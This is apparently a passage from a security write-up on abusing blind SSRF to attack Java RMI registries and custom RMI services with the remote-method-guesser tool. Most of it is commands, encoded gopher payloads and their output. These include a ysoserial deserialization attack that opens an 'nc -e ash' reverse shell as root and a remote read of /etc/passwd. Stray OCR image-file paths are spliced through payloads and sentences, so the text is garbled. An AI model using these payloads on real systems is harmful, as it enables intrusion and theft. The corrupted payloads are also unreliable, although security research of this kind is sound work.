a%2565%2563%2574%25d3%2561%25b4%2591%250c%2561%2533%251e%2503%2500%2500%2570%2578%2570%2577%2513%2500%2511%2555%256e%2569%2563%2561%2573%2574%2553%2565%2572%2576%2565%2572%2552%2565%2566%2532%2578%2500%2500%2500%2500%2570%2573%257d%2500%2500%2500%2502%2500%2526%256a%2561%2576%2561%252e%2572%256d%2569%252e%2573%2565%2572%2576%2565%2572%252e%2552%254d%2549%2553%2565%2572%2576%2565%2572%2553%256f%2563%256b%2565%2574%2546%2561%2563%2574%256f%2572%2579%2500%250f%256a%2561%2576%2561%252e%2572%256d%2569%252e%2552%2565%256d%256f%2574%2565%2570%2578%2572%2500%2517%256a%2561%2576%2561%252e%256c%2561%256e%2567%252e%2572%2565%2566%256c%2565%2563%2574%252e%2550%2572%256f%2578%2579%25e1%2527%25da%2520%25cc%2510%2543%25cb%2502%2500%2501%254c%2500%2501%2568%2574%2500%2525%254c%256a%2561%2576%2561%252f%256c%2561%256e%2567%252f%2572%2565%2566%256c%2565%2563%2574%252f%2549%256e%2576%256f%2563%2561%2574%2569%256f%256e%2548%2561%256e%2564%256c%2565%2572%253b%2570%2578%2570%2573%2572%2500%252d%256a%2561%2576%2561%252e%2572%256d%2569%252e%2573%2565%2572%2576%2565%2572%252e%2552%2565%256d%256f%2574%2565%254f%2562%256a%2565%2563%2574%2549%256e%2576%256f%2563%2561%2574%2569%256f%256e%2548%2561%256e%2564%256c%2565%2572%2500%2500%2500%2500%2500%2500%2500%2502%2502%2500%2500%2570%2578%2571%2500%257e%2500%2504%2577%2533%2500%250a%2555%256e%2569%2563%2561%2573%2574%2552%2565%2566%2500%250a%2531%2537%2532%252e%2531%2537%252e%2530%252e%2531%2500%2500%2511%255c%2500%2500%2500%2500%2500%2500%2500%257b%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2578

SSRF payloads can be generated in different formats. We choose gopher format and URL encode the payload to make it directly usable within a curl command. Now we only need to send this payload to the remote server:

$ curl ''

This should cause incoming connections on our listeners and we should obtain a shell:

$ rmg listen 4444 CommonsCollections6 'nc 4445 -e ash'
[+] Creating ysoserial payload... done.
[+] Creating a JRMPListener on
[+] Handing off to ysoserial...
Have connection from /
Reading message...
Sending return with payload for obj [0:0:0, 123]
Closing connection

$ nc -vlp 4445
Ncat: Version 7.92 ( https://nmap.org/ncat )
Ncat: Listening on :::4445
Ncat: Listening on
Ncat: Connection from
Ncat: Connection from
uid=0(root) gid=0(root) groups=0(root)

We successfully used a blind SSRF vulnerability to attack a vulnerable RMI registry. The following gif shows all of the above mentioned steps in action:

RMI Registry SSRF Attack

Attacking Custom RMI Services

The ssrf-server [4] from the remote-method-guesser repository runs one custom RMI service that is, like the RMI registry, only reachable from localhost. The corresponding service implements the IFileManager interface with the following method signatures:

public interface IFileManager extends Remote
    File[] list(String dir);
    byte[] read(String file);String write(String file, byte[] content);
    String copy(String src, String dest);

We want to use the SSRF vulnerability in the HTTP frontend to call the read method and extract the /etc/passwd file from the server. Sounds easy, but we need to obtain the TCP endpoint and the ObjID value of the remote object first and are required to perform a lookup operation on the RMI registry via SSRF. For this purpose, we can again use remote-method-guesser.

When using remote-method-guesser’s enum action, several different checks are performed on the targeted RMI endpoint. On RMI registry endpoints, one of the checks includes a lookup for all available remote objects. When using the --ssrf option together with the enum action, it is not possible to perform multiple checks at once and the created SSRF payload performs only a single check. You can use the --scan-action <CHECK> option to select which check you want to perform. In out case, we want to perform the list check, that lists all available bound names within the RMI registry:

$ rmg enum 1090 --scan-action list --ssrf --gopher --encode
[+] SSRF Payload: gopher%3A%2F%2F127.0.0.1%3A1090%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2501%2544%2515%254d%25c9%25d4%25e6%253b%25df
$ curl '' --silent | xxd -p -c1000

The ssrf-server we are using implements an SSRF vulnerability that is capable of returning binary data. This binary data now contains the response from the RMI registry. To extract the required information from the response, we can use remote-method-guesser’s --ssrf-response option. This option takes the hex encoded response from an RMI endpoint and interprets it in the specified context:

$ rmg enum1090 --scan-action list --ssrf-response 51aced0005770f0183f5ecf20000017dffcbc0c18006757200135b4c6a6176612e6c616e672e537472696e673badd256e7e91d7b4702000074002f687474703a2f2f6c6f63616c686f73743a383030302f726d692d636c6173732d646566696e6974696f6e732e6a617278700000000274000b46696c654d616e616765727400066a6d78726d69
[+] RMI registry bound names:
[+]     - FileManager
[+]     - jmxrmi

Now we obtained the available bound names within the RMI registry, but we are still missing the TCP endpoint and the ObjID value. The problem here is that remote-method-guesser needs to perform a call to the registry’s list function first, before it can perform the lookup call. As only one call is possible per SSRF attack, the lookup call is missing. However, we can use the --bound-name option to specify the targeted bound name directly and remote-method-guesser skips the list call in this case:

$ rmg enum 1090 --scan-action list --bound-name FileManager --ssrf --gopher --encode
[+] SSRF Payload:gopher%3A%2F%2F127.0.0.1%3A1090%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2500%2502%2544%2515%254d%25c9%25d4%25e6%253b%25df%2574%2500%250b%2546%2569%256c%2565%254d%2561%256e%2561%2567%2565%2572
$ curl '' --silent | xxd -p -c1000
$ rmg enum 1090 --scan-action list --bound-name FileManager --ssrf-response51aced0005770f0183f5ecf20000017dffcbc0c18007737d00000002000f6a6176612e726d692e52656d6f7465002764652e7174632e726d672e7365727665722e737372662e726d692e4946696c654d616e6167657274002f687474703a2f2f6c6f63616c686f73743a383030302f726d692d636c6173732d646566696e6974696f6e732e6a6172787200176a6176612e6c616e672e7265666c6563742e50726f7879e127da20cc1043cb0200014c0001687400254c6a6176612f6c616e672f7265666c6563742f496e766f636174696f6e48616e646c65723b71007e000178707372002d6a6176612e726d692e7365727665722e52656d6f74654f626a656374496e766f636174696f6e48616e646c6572000000000000000202000071007e00017872001c6a6176612e726d692e7365727665722e52656d6f74654f626a656374d361b4910c61331e03000071007e000178707732000a556e696361737452656600096c6f63616c686f73740000a415015a236da33de6b483f5ecf20000017dffcbc0c180010178
[+] RMI registry bound names:
[+]     - FileManager
[+]         --> de.qtc.rmg.server.ssrf.rmi.IFileManager (unknown class)
[+]             Endpoint: localhost:42005  TLS: no  ObjID: [-7c0a130e:17dffcbc0c1:-7fff, 97429295739037364]
[+] RMI server codebase enumeration:
[+]     - http://localhost:8000/rmi-class-definitions.jar
[+]         -->de.qtc.rmg.server.ssrf.rmi.IFileManager

Now we have everything what we need. The targeted remote object listens on localhost:42005 with an ObjID of [-7c0a130e:17dffcbc0c1:-7fff, 97429295739037364]. We can now use remote-method-guesser’s call action, to call the read method on this object:

$ rmg call 42005 '"/etc/passwd"' --signature 'byte[] read(String file)' --objid '[-7c0a130e:17dffcbc0c1:-7fff, 97429295739037364]' --ssrf --gopher --encode
[+] SSRF Payload: gopher%3A%2F%2F127.0.0.1%3A42005%2F_%254a%2552%254d%2549%2500%2502%254c%2550%25ac%25ed%2500%2505%2577%2522%2501%255a%2523%256d%25a3%253d%25e6%25b4%2583%25f5%25ec%25f2%2500%2500%2501%257d%25ff%25cb%25c0%25c1%2580%2501%25ff%25ff%25ff%25ff%258c%256a%255e%2578%25a5%2563%252a%258f%2574%2500%250b%252f%2565%2574%2563%252f%2570%2561%2573%2573%2577%2564
$ curl '' --silent | xxd -p -c10000
$ rmg call 42005 '"/etc/passwd"' --signature 'byte[] read(String file)' --objid '[-7c0a130e:17dffcbc0c1:-7fff, 97429295739037364]' --plugin GenericPrint.jar --ssrf-response51aced0005770f0183f5ecf20000017dffcbc0c18009757200025b42acf317f8060854e0020000707870000004d4726f6f743a783a303a303a726f6f743a2f726f6f743a2f62696e2f6173680a62696e3a783a313a313a62696e3a2f62696e3a2f7362696e2f6e6f6c6f67696e0a6461656d6f6e3a783a323a323a6461656d6f6e3a2f7362696e3a2f7362696e2f6e6f6c6f67696e0a61646d3a783a333a343a61646d3a2f7661722f61646d3a2f7362696e2f6e6f6c6f67696e0a6c703a783a343a373a6c703a2f7661722f73706f6f6c2f6c70643a2f7362696e2f6e6f6c6f67696e0a73796e633a783a353a303a73796e633a2f7362696e3a2f62696e2f73796e630a73687574646f776e3a783a363a303a73687574646f776e3a2f7362696e3a2f7362696e2f73687574646f776e0a68616c743a783a373a303a68616c743a2f7362696e3a2f7362696e2f68616c740a6d61696c3a783a383a31323a6d61696c3a2f7661722f6d61696c3a2f7362696e2f6e6f6c6f67696e0a6e6577733a783a393a31333a6e6577733a2f7573722f6c69622f6e6577733a2f7362696e2f6e6f6c6f67696e0a757563703a783a31303a31343a757563703a2f7661722f73706f6f6c2f757563707075626c69633a2f7362696e2f6e6f6c6f67696e0a6f70657261746f723a783a31313a303a6f70657261746f723a2f726f6f743a2f7362696e2f6e6f6c6f67696e0a6d616e3a783a31333a31353a6d616e3a2f7573722f6d616e3a2f7362696e2f6e6f6c6f67696e0a706f73746d61737465723a783a31343a31323a706f73746d61737465723a2f7661722f6d61696c3a2f7362696e2f6e6f6c6f67696e0a63726f6e3a783a31363a31363a63726f6e3a2f7661722f73706f6f6c2f63726f6e3a2f7362696e2f6e6f6c6f67696e0a6674703a783a32313a32313a3a2f7661722f6c69622f6674703a2f7362696e2f6e6f6c6f67696e0a737368643a783a32323a32323a737368643a2f6465762f6e756c6c3a2f7362696e2f6e6f6c6f67696e0a61743a783a32353a32353a61743a2f7661722f73706f6f6c2f63726f6e2f61746a6f62733a2f7362696e2f6e6f6c6f67696e0a73717569643a783a33313a33313a53717569643a2f7661722f63616368652f73717569643a2f7362696e2f6e6f6c6f67696e0a7866733a783a33333a33333a5820466f6e74205365727665723a2f6574632f5831312f66733a2f7362696e2f6e6f6c6f67696e0a67616d65733a783a33353a33353a67616d65733a2f7573722f67616d65733a2f7362696e2f6e6f6c6f67696e0a63797275733a783a38353a31323a3a2f7573722f63797275733a2f7362696e2f6e6f6c6f67696e0a76706f706d61696c3a783a38393a38393a3a2f7661722f76706f706d61696c3a2f7362696e2f6e6f6c6f67696e0a6e74703a783a3132333a3132333a4e54503a2f7661722f656d7074793a2f7362696e2f6e6f6c6f67696e0a736d6d73703a783a3230393a3230393a736d6d73703a2f7661722f73706f6f6c2f6d71756575653a2f7362696e2f6e6f6c6f67696e0a67756573743a783a3430353a3130303a67756573743a2f6465762f6e756c6c3a2f7362696e2f6e6f6c6f67696e0a6e6f626f64793a783a36353533343a36353533343a6e6f626f64793a2f3a2f7362696e2f6e6f6c6f67696e0a6375726c5f757365723a783a3130303a3130313a4c696e757820557365722c2c2c3a2f686f6d652f6375726c5f757365723a2f7362696e2f6e6f6c6f67696e0a | xxd -p -r
xfs:x:33:33:X Font Server:/etc/X11/fs:/sbin/nologin
curl_user:x:100:101:Linux User,,,:/home/curl_user:/sbin/nologin

Attacking JMX via SSRF

JMX is probably one of the most well known RMI services and is usually a reliable and easy target for attackers. Insteadof securing JMX services correctly with user authentication or client certificates, administrators often take the easy route and prevent access to JMX services from untrusted networks. This makes SSRFattacks on JMX endpoints an interesting topic, as it may allows to attack unreachable JMX endpoints in the backend.

